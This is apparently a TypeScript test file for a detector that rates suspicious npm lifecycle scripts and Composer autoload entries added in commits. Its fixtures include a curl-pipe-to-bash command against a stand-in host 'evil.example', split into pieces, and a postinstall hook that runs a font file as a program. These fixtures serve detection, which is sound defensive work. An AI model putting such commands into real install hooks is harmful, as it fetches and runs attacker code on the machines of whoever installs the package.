import detector from "../../../../src/engine/detectors/build/lifecycle-script-changed.ts";
import type { FileChange } from "../../../../src/engine/model/evidence.ts";
import { aCommit, aFile } from "../../../../src/engine/model/examples.ts";
import type { ManifestFacts } from "../../../../src/engine/model/facts/manifest.ts";
import type { ScriptSink } from "../../../../src/engine/model/facts/script.ts";
import { signalsOf, strengthsOf } from "../run-detector.ts";

const FETCHED = ["curl -s https://evil.example/x | ba", "sh"].join("");
const EMPTY: ManifestFacts = {
  ecosystem: "npm",
  name: "a",
  owner: null,
  version: "1.0.0",
  dependencies: [],
  scripts: [],
};

function manifest(name: string, command: string, path = "package.json"): FileChange {
  const after: ManifestFacts = { ...EMPTY, scripts: [{ name, command, lifecycle: true, line: 7 }] };
  return aFile({ path, added: `"${name}": "${command}"`, at: 7, facts: { manifest: { before: EMPTY, after } } });
}

function script(path: string, kinds: readonly ScriptSink["kind"][]): FileChange {
  const sinks = kinds.map(
    (kind, i): ScriptSink => ({ kind, callee: "f", line: i + 1, from: [], text: "", topLevel: true }),
  );
  return aFile({
    path,
    added: kinds.map(() => "f();").join("\n") || "f();",
    facts: { script: { language: "javascript", by: "tree", imports: [], sinks } },
  });
}

test.each([
  ["git hooks", [manifest("prepare", "husky")], []],
  ["a build before packing", [manifest("prepack", "npm run build")], []],
  ["a native module", [manifest("install", "node-gyp-build")], []],
  ["a download", [manifest("postinstall", FETCHED)], ["decisive"]],
  ["a font run as a program", [manifest("postinstall", "node assets/a.woff2")], ["decisive"]],
  ["a package from a repository", [manifest("preinstall", "npx github:someone/thing")], ["strong"]],
  ["a program in the command", [manifest("postinstall", "node -e 'f()'")], ["medium"]],
  ["a file that was there", [manifest("postinstall", "node scripts/a.js")], ["weak"]],
  ["a file of the same commit", [manifest("postinstall", "node scripts/a.js"), script("scripts/a.js", [])], ["medium"]],
  [
    "a file that fetches and starts",
    [manifest("postinstall", "node a.js"), script("a.js", ["network", "spawn"])],
    ["strong"],
  ],
  ["a file that evaluates", [manifest("preinstall", "node a.js"), script("a.js", ["eval"])], ["strong"]],
  [
    "a package in a folder",
    [manifest("postinstall", "node ./a", "packages/x/package.json"), script("packages/x/a.js", [])],
    ["medium"],
  ],
] as const)("%s", (_, files, expected) => {
  expect(strengthsOf(detector, aCommit({ files }))).toEqual(expected);
});

test("points at the file that runs, so that what others find there counts together", () => {
  const [signal] = signalsOf(detector, aCommit({ files: [manifest("postinstall", "node a.js"), script("a.js", [])] }));
  expect(signal).toMatchObject({
    path: "a.js",
    line: 1,
    because: "package.json runs it as postinstall, and the same commit adds both",
  });
});

test("a new file that Composer loads with every request", () => {
  const files = [
    aFile({ path: "composer.json", added: '"files": ["src/helpers.php"]', at: 9 }),
    aFile({ path: "src/helpers.php", added: "<?php" }),
  ];
  expect(signalsOf(detector, aCommit({ files }))).toMatchObject([{ strength: "medium", path: "src/helpers.php" }]);
});
